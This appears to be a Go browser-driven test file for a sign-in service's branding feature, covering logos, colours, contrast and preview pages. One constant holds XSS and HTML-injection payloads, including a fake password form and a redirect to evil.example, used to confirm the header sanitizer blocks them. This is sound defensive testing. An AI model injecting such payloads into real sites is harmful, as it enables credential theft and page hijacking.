package e2e_test

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"latchkey/e2e/browser"
)

// wordmark is a logo: a compass rose beside some strokes, on nothing.
func wordmark(t *testing.T, ink color.NRGBA) []byte {
	t.Helper()
	const w, h = 360, 120
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			dx, dy := x-60, y-60
			in := dx*dx+dy*dy < 54*54 && (dx+dy)*(dx-dy) > 0
			for i := range 4 {
				in = in || x > 140+i*52 && x < 180+i*52 && y > 40+10*(i%2) && y < 84
			}
			if in {
				img.SetNRGBA(x, y, ink)
			}
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// upload sends a picture as the form of the dashboard does.
func (b *board) upload(t *testing.T, path, use string, file []byte) int {
	t.Helper()
	var form bytes.Buffer
	w := multipart.NewWriter(&form)
	_ = w.WriteField("use", use)
	part, err := w.CreateFormFile("image", "logo.png")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = part.Write(file)
	_ = w.Close()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, b.s.base+path, &form)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", w.FormDataContentType())
	req.Header.Set("Origin", b.s.base)
	res, err := b.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_ = res.Body.Close()
	return res.StatusCode
}

// branded is an application that somebody has in the dashboard, and its key.
type branded struct {
	*server
	a    *board
	tab  *browser.Tab
	api  *api
	app  string
	path string
}

func newBranded(t *testing.T) *branded {
	t.Helper()
	s := localhost(t)
	b := &branded{server: s, a: s.board(t), tab: browser.Open(t)}
	b.a.post(t, s.firstURL(t), "email", "ada@example.org", "name", "Ada Lindgren")
	base, err := url.Parse(s.base)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range b.a.client.Jar.Cookies(base) {
		if _, err := chromedp.Call(b.tab.Context(), network.SetCookie, network.SetCookieParams{Name: c.Name, Value: c.Value, URL: s.base}); err != nil {
			t.Fatal(err)
		}
	}
	made := b.a.post(t, "/dashboard/apps/new", "name", "Northwind", "test", "true")
	b.api = newAPI(s.install, s.base)
	b.api.key = onceValue.FindStringSubmatch(made.body)[1]
	b.app = regexp.MustCompile(`/dashboard/apps/(app_\w+)"`).FindStringSubmatch(made.body)[1]
	b.path = "/dashboard/apps/" + b.app + "/branding"
	b.api.must(t, http.StatusOK, http.MethodPut, "/v1/signin-settings", fields{"redirect_uris": []string{s.base + "/in"}})
	return b
}

// link is the path of a fresh link.
func (b *branded) link(t *testing.T) string {
	t.Helper()
	made := b.api.must(t, http.StatusCreated, http.MethodPost, "/v1/links", fields{"providers": []string{"IMAP", "MOCK"}})
	return strings.TrimPrefix(made.text("url"), b.base)
}

func (b *branded) open(path string) { b.tab.Do(chromedp.Navigate(b.base + path)) }

// dress brands the application by the forms of the dashboard.
func (b *branded) dress(t *testing.T) {
	t.Helper()
	if got := b.a.upload(t, b.path+"/images", "logo", wordmark(t, color.NRGBA{R: 10, G: 90, B: 60, A: 255})); got != http.StatusOK {
		t.Fatalf("the logo: %d", got)
	}
	if got := b.a.upload(t, b.path+"/images", "logo_dark", wordmark(t, color.NRGBA{R: 140, G: 230, B: 190, A: 255})); got != http.StatusOK {
		t.Fatalf("the dark logo: %d", got)
	}
	if got := b.a.post(t, b.path, "name", "Northwind CRM", "accent", "#0a7a45", "radius", "6",
		"privacy", "https://northwind.example/privacy", "terms", "https://northwind.example/terms", "support", "https://northwind.example/help"); got.status != http.StatusOK || !strings.Contains(got.path, "done=saved") {
		t.Fatalf("%d at %s", got.status, got.path)
	}
	b.a.post(t, b.path+"/words?lang=en", "start.title", "Connect your mailbox to {app}", "consent.note", "Our support never asks for your password.")
	b.a.post(t, b.path+"/words?lang=ar", "start.title", "اربط صندوق بريدك مع {app}")
	b.a.post(t, b.path+"/words?lang=*", "footer", "© Northwind Traders Ltd, Lindgrensgade 7, København")
	b.a.post(t, b.path+"/header", "header_html", "<p>Your data stays in <b>Europe</b>. <a href=\"https://northwind.example/data\">How we keep it</a></p>")
}

// computed is a style of the first element that matches.
func (b *branded) computed(selector, property string) string {
	return browser.Eval[string](b.tab, fmt.Sprintf("getComputedStyle(document.querySelector(%q)).getPropertyValue(%q)", selector, property))
}

// awaited is what a promise comes to.
func awaited[T any](b *branded, script string) T {
	return browser.Get(b.tab, chromedp.Evaluate[T](script, func(p *runtime.EvaluateParams) { p.AwaitPromise = new(true) }))
}

// logoLoaded waits for the logo of the scheme in view, and is its width.
const logoLoaded = `new Promise(done => {
	const look = () => { const i = document.querySelector("img.logo"); i.complete && i.naturalWidth ? done(i.naturalWidth) : setTimeout(look, 20); };
	look();
})`

// TestBrandingByTheDashboard dresses an application with forms, and sees it on the pages of its end users.
func TestBrandingByTheDashboard(t *testing.T) {
	b := newBranded(t)
	if got := b.a.get(t, b.path); got.status != http.StatusOK {
		t.Fatalf("%d", got.status)
	}
	// What cannot be seen is refused, with its ratio; what was typed stays.
	if got := b.a.post(t, b.path, "accent", "#ffee00", "privacy", "http://northwind.example"); got.status != http.StatusUnprocessableEntity ||
		!strings.Contains(got.body, "1.1:1") || !strings.Contains(got.body, `value="#ffee00"`) || !strings.Contains(got.body, "begins with https://") {
		t.Errorf("a yellow accent: %d", got.status)
	}
	if got := b.a.upload(t, b.path+"/images", "logo", []byte("<svg/>")); got != http.StatusUnprocessableEntity {
		t.Errorf("an SVG: %d", got)
	}
	b.dress(t)

	b.tab.View(1280, 820, "light")
	for _, path := range []string{b.link(t), "/signin?application=" + b.app} {
		b.open(path)
		for scheme, want := range map[string]string{"light": "#0a7a45", "dark": "#349165"} {
			b.tab.Media(scheme)
			got := strings.TrimSpace(b.computed(":root", "--brand"))
			if got != want {
				t.Errorf("%s, %s: the accent is %s", path, scheme, got)
			}
			if w := awaited[int64](b, logoLoaded); w != 360 {
				t.Errorf("%s, %s: the logo is %d wide", path, scheme, w)
			}
		}
		text := browser.Eval[string](b.tab, "document.body.innerText")
		for _, want := range []string{"Northwind CRM", "Your data stays in Europe", "Privacy", "© Northwind Traders"} {
			if !strings.Contains(text, want) {
				t.Errorf("%s does not say %q:\n%s", path, want, text)
			}
		}
	}
	b.open(b.link(t))
	if text := browser.Eval[string](b.tab, "document.body.innerText"); !strings.Contains(text, "Connect your mailbox to Northwind CRM") ||
		!strings.Contains(text, "will be able to") || !strings.Contains(text, "never asks for your password") {
		t.Errorf("the words of the first page:\n%s", text)
	}
	// The preview is the real page, held to its scheme, and runs nothing.
	b.open(b.path)
	b.tab.Media("light")
	for i, want := range []string{"light", "dark"} {
		frame := fmt.Sprintf("document.querySelectorAll('iframe')[%d].contentDocument", i)
		awaited[bool](b, fmt.Sprintf("new Promise(done => { const look = () => %s?.querySelector('h1') ? done(true) : setTimeout(look, 20); look(); })", frame))
		if got := browser.Eval[string](b.tab, frame+".documentElement.className"); got != "" {
			t.Errorf("a script ran in the preview: %s", got)
		}
		if got := browser.Eval[string](b.tab, fmt.Sprintf("getComputedStyle(%s.documentElement).colorScheme", frame)); got != want {
			t.Errorf("the preview is %s, want %s", got, want)
		}
		if got := browser.Eval[string](b.tab, frame+".querySelector('h1').innerText"); got != "Connect your mailbox to Northwind CRM" {
			t.Errorf("the preview says %s", got)
		}
	}
	// Contrast follows what is typed.
	b.tab.Do(chromedp.Evaluate[chromedp.Void]("document.querySelector('#f-accent').select()"), chromedp.SendKeys(chromedp.CSS("#f-accent"), "#ffee00"))
	if got := browser.Eval[string](b.tab, "document.querySelector('[data-ratio=accent]').textContent"); got != "Contrast 1.1:1, needs 3:1" {
		t.Errorf("live contrast: %q", got)
	}
	// Reset takes it away at once.
	b.a.post(t, b.path+"/reset")
	b.open(b.link(t))
	if got := browser.Eval[int64](b.tab, "document.querySelectorAll('img.logo, .brandbox, .under').length"); got != 0 {
		t.Errorf("%d parts of the branding are left", got)
	}
}

// hostile tries what a header could do: each part of it would be seen by the test.
const hostile = `<script>window.pwned=1</script><img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"><a href="javascript:window.pwned=1" id="bait">bait</a>
<style>main{display:none}</style><div style="position:fixed;inset:0;background:red" class="btn">over</div><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form></div></div><p>outside</p>
<img src="https://evil.example/pixel.gif"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`

// TestHostileHeaderDoesNothing sets it by the dashboard and by the API, and opens every kind of page.
func TestHostileHeaderDoesNothing(t *testing.T) {
	b := newBranded(t)
	var asked []string
	b.tab.View(390, 820, "light")
	for name, set := range map[string]func(){
		"dashboard": func() {
			got := b.a.post(t, b.path+"/header", "header_html", hostile)
			if got.status != http.StatusOK || !strings.Contains(got.body, "Saved, without what may not be there") || strings.Contains(got.body, "pwned") {
				t.Errorf("%d: what was taken out is not said, or is still there", got.status)
			}
		},
		"api": func() {
			got := b.api.must(t, http.StatusOK, http.MethodPut, "/v1/branding", fields{"header_html": hostile})
			if strings.Contains(got.text("header_html"), "pwned") || got.text("warnings.0.code") == "" {
				t.Errorf("%s", got.body)
			}
		},
	} {
		set()
		for _, path := range []string{b.link(t), "/signin?application=" + b.app, b.path + "/preview?scheme=dark"} {
			b.open(path)
			state := browser.Eval[string](b.tab, `[
				window.pwned ? "a script ran" : "",
				location.hostname !== "localhost" ? "it went to " + location.href : "",
				document.querySelectorAll(".brandbox :is(script,style,form,input,button,iframe,svg,math,img,meta,base,[style],[class],[id],[onerror])").length ? "elements are left" : "",
				[...document.querySelectorAll("p")].some(p => p.textContent === "outside" && !p.closest(".brandbox")) ? "it got out of the box" : "",
				getComputedStyle(document.querySelector("main")).display === "none" ? "our words are hidden" : "",
				document.elementFromPoint(195, 600)?.textContent === "over" ? "it lies over the page" : "",
			].filter(Boolean).join("; ")`)
			if state != "" {
				t.Errorf("%s, %s: %s", name, path, state)
			}
			asked = append(asked, browser.Eval[[]string](b.tab, "performance.getEntriesByType('resource').map(e => e.name)")...)
		}
	}
	for _, u := range asked {
		if !strings.HasPrefix(u, b.base) {
			t.Errorf("a page asked for %s", u)
		}
	}
	for _, m := range b.tab.Console() {
		if strings.Contains(m, "evil") || strings.Contains(m, "pwned") {
			t.Errorf("console: %s", m)
		}
	}
}

// TestGalleryBranding looks at every page that branding touches. The pictures are in e2e/out/branding.
func TestGalleryBranding(t *testing.T) {
	b := newBranded(t)
	axe := browser.Axe(t)
	out := filepath.Join(browser.Root(t), "out", "branding")
	if err := os.MkdirAll(out, 0o750); err != nil {
		t.Fatal(err)
	}
	look := func(name, path string, widths ...int64) {
		t.Helper()
		for _, width := range widths {
			b.tab.View(width, 820, "light")
			b.open(path)
			b.tab.Inject(axe)
			for _, scheme := range []string{"light", "dark"} {
				b.tab.Media(scheme)
				shot := fmt.Sprintf("%s-%d-%s", name, width, scheme)
				for _, v := range b.tab.Check() {
					t.Errorf("%s: %s (%s)\n%v", shot, v.ID, v.Help, v.Nodes)
				}
				if wide := browser.Eval[int64](b.tab, "document.documentElement.scrollWidth"); wide > width {
					t.Errorf("%s: the page is %d px wide", shot, wide)
				}
				b.tab.Shot(filepath.Join(out, shot+".png"))
			}
		}
		for _, m := range b.tab.Console() {
			// The preview's own script is held back on purpose.
			if !strings.HasPrefix(m, "debug: ") && !strings.Contains(m, "Blocked script execution") && !strings.Contains(m, "sandboxed") {
				t.Errorf("%s: console: %s", name, m)
			}
		}
	}
	look("dashboard-images-empty", b.path+"/images", 390, 1280)
	b.dress(t)
	for _, lang := range []string{"en", "ar"} {
		look("wizard-"+lang, b.link(t)+"?locale="+lang, 390, 1280)
		look("signin-"+lang, "/signin?application="+b.app+"&locale="+lang, 390, 1280)
	}
	for name, path := range map[string]string{"": "", "-images": "/images", "-words": "/words", "-header": "/header"} {
		look("dashboard"+name, b.path+path, 390, 1280)
	}
}
